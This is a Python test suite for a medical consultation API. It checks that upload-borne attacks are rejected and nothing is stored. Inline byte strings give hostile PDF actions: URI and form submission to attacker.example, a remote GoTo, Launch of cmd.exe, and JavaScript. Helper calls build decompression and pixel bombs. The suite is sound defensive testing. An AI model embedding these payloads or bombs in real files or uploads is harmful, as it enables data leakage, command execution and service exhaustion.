"""Attacks through uploads: each hostile file is refused with 422 and its problem type, and
nothing is stored. Bombs cost the checking process its budget (CPU seconds, memory, pixels,
inflated bytes), never the API: they are `upload-over-budget`; files that are not what they
claim, or that would act on a clinician's desk, are `refused`.
"""

from __future__ import annotations

import asyncio
from functools import cache

import pytest
from prometheus_client import REGISTRY

from api.file_content import OverBudget
from api.inspection import Inspector
from api.inspection_budget import Budget
from store.tables import Attachment
from tests.api import files
from tests.api.support import PDF, PNG, Api, Party, assert_problem, eventually, rows, upload
from tests.security import upload_attacks as attacks

OVER_BUDGET = "urn:econsult:problem:upload-over-budget"
REFUSED = "urn:econsult:problem:refused"


@cache
def pdf_spending_its_cpu_budget() -> bytes:
    """Ten object streams of 15 MB of spaces, each under the inflation cap (16 MiB): about a
    second of CPU each to read (12 s in all, measured), so the check runs into its 3 s."""
    return attacks.pdf_inflating_to_whitespace(streams=10, inflated_bytes=15_000_000)


async def refused(api: Api, party: Party, content: bytes, problem_type: str) -> dict[str, str]:
    """Uploads `content`; asserts the 422, its problem type, and that nothing was stored."""
    response = await upload(api.http, party.service, content, "attack.bin")
    problem = assert_problem(response, 422)
    assert problem["type"] == problem_type, problem
    assert await rows(api.sessions, Attachment, uploaded_by=party.portal) == 0
    return problem


# --- bombs: over budget -----------------------------------------------------------------------


async def test_a_pdf_object_stream_inflating_to_70_mb_of_whitespace_is_over_budget(
    api: Api, party: Party
) -> None:
    bomb = attacks.pdf_inflating_to_whitespace(streams=1, inflated_bytes=70_000_000)
    assert len(bomb) < 100_000
    problem = await refused(api, party, bomb, OVER_BUDGET)
    assert "inflates to more than 16 MiB" in problem["detail"]


async def test_eight_object_streams_inflating_to_70_mb_each_are_over_budget(
    api: Api, party: Party
) -> None:
    bomb = attacks.pdf_inflating_to_whitespace(streams=8, inflated_bytes=70_000_000)
    await refused(api, party, bomb, OVER_BUDGET)


async def test_a_pdf_stream_of_128_mib_of_zeros_is_over_budget(api: Api, party: Party) -> None:
    await refused(api, party, attacks.pdf_with_flate_bomb(), OVER_BUDGET)


async def test_a_pdf_that_spends_its_cpu_budget_is_over_budget(api: Api, party: Party) -> None:
    problem = await refused(api, party, pdf_spending_its_cpu_budget(), OVER_BUDGET)
    assert "3 s of CPU" in problem["detail"]


async def test_an_8000_by_8000_png_is_over_budget_before_it_is_decoded(
    api: Api, party: Party
) -> None:
    bomb = attacks.png_of(8000, 8000)
    assert len(bomb) < 300_000
    problem = await refused(api, party, bomb, OVER_BUDGET)
    assert "more than 60 megapixels" in problem["detail"]


async def test_a_png_claiming_900_megapixels_is_over_budget(api: Api, party: Party) -> None:
    await refused(api, party, attacks.png_claiming(30_000, 30_000), OVER_BUDGET)


async def test_a_jpeg_claiming_400_megapixels_is_over_budget(api: Api, party: Party) -> None:
    await refused(api, party, attacks.jpeg_claiming(20_000, 20_000), OVER_BUDGET)


# --- polyglots: not what they claim -------------------------------------------------------------


async def test_a_png_with_a_pdf_after_its_end_is_refused(api: Api, party: Party) -> None:
    problem = await refused(api, party, attacks.png_then_pdf(), REFUSED)
    assert "after its end marker" in problem["detail"]


async def test_a_jpeg_with_a_zip_archive_appended_is_refused(api: Api, party: Party) -> None:
    problem = await refused(api, party, attacks.jpeg_then_zip(), REFUSED)
    assert "after its end marker" in problem["detail"]


# --- PDFs that reach out ------------------------------------------------------------------------

WEB_ADDRESS = b"<< /Type /Action /S /URI /URI (https://attacker.example/seen) >>"
REACHING_OUT = {
    "uri_when_the_document_opens": (WEB_ADDRESS, "open"),
    "uri_when_a_page_opens": (WEB_ADDRESS, "page"),
    "submit_form": (
        b"<< /Type /Action /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>",
        "link",
    ),
    "import_data": (b"<< /Type /Action /S /ImportData /F (answers.fdf) >>", "open"),
    "goto_remote": (b"<< /Type /Action /S /GoToR /F (//attacker.example/x.pdf) /D [0] >>", "link"),
    "launch": (b"<< /Type /Action /S /Launch /F (cmd.exe) >>", "open"),
    "javascript": (b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>", "page"),
    "launch_in_an_object_nothing_refers_to": (b"<< /S /Launch /F (cmd.exe) >>", "nowhere"),
}


@pytest.mark.parametrize("escape", [False, True], ids=["plain", "escaped"])
@pytest.mark.parametrize(("action", "where"), REACHING_OUT.values(), ids=REACHING_OUT.keys())
async def test_a_pdf_action_that_reaches_out_is_refused(
    api: Api, party: Party, action: bytes, where: str, escape: bool
) -> None:
    content = attacks.pdf_with_action(action, where=where, escape=escape)
    problem = await refused(api, party, content, REFUSED)
    assert "which is not accepted" in problem["detail"]


async def test_a_web_link_the_reader_clicks_is_accepted(api: Api, party: Party) -> None:
    response = await upload(
        api.http, party.service, attacks.pdf_with_action(WEB_ADDRESS, where="link")
    )
    assert response.status_code == 201, response.text


async def test_an_image_past_the_memory_budget_is_over_budget_and_the_next_one_is_checked() -> None:
    """With 256 MiB of address space (about 90 are the interpreter and decoders), a 49 MP
    colour picture, 196 MB once decoded, cannot be; a small one then still is. The API's
    default (1024 MiB) holds a 48 MP HEIC; a lower limit is how memory is run out here."""
    budget = Budget(
        cpu_seconds=3,
        address_space_bytes=256 * 2**20,
        max_pixels=60_000_000,
        max_inflated_bytes=16 * 2**20,
    )
    inspector = Inspector(budget, processes_per_lane=1)
    try:
        with pytest.raises(OverBudget, match="256 MiB of memory"):
            await inspector.accepted_type(attacks.png_of(7000, 7000, mode="RGB"))
        assert await inspector.accepted_type(PNG) == "image/png"
    finally:
        inspector.close()


# --- the pool under attack ------------------------------------------------------------------------


async def test_a_process_ended_over_budget_is_replaced_and_the_next_upload_is_checked(
    api: Api, party: Party
) -> None:
    await refused(api, party, pdf_spending_its_cpu_budget(), OVER_BUDGET)
    for content in (PDF, PNG, files.heic()):
        response = await upload(api.http, party.service, content)
        assert response.status_code == 201, response.text


async def _in_flight(lane: str) -> float:
    labels = {"lane": lane}
    return REGISTRY.get_sample_value("econsult_upload_inspections_in_flight", labels) or 0.0


async def test_a_small_image_is_answered_while_pdfs_spend_their_budget(
    api: Api, party: Party
) -> None:
    """More CPU-bound PDFs than the PDF lane has processes; the photo sent once they are all
    waiting or being checked is answered before any of them."""
    bombs = [
        asyncio.create_task(upload(api.http, party.service, pdf_spending_its_cpu_budget()))
        for _ in range(api.settings.attachment_inspection_processes + 1)
    ]
    waiting = await eventually(lambda: _in_flight("document"), lambda n: n == len(bombs), 60)
    assert waiting == len(bombs)
    photo = await upload(api.http, party.service, PNG)
    assert photo.status_code == 201, photo.text
    assert not any(bomb.done() for bomb in bombs)
    for bomb in bombs:
        problem = assert_problem(await bomb, 422)
        assert problem["type"] == OVER_BUDGET
    assert await rows(api.sessions, Attachment, uploaded_by=party.portal) == 1
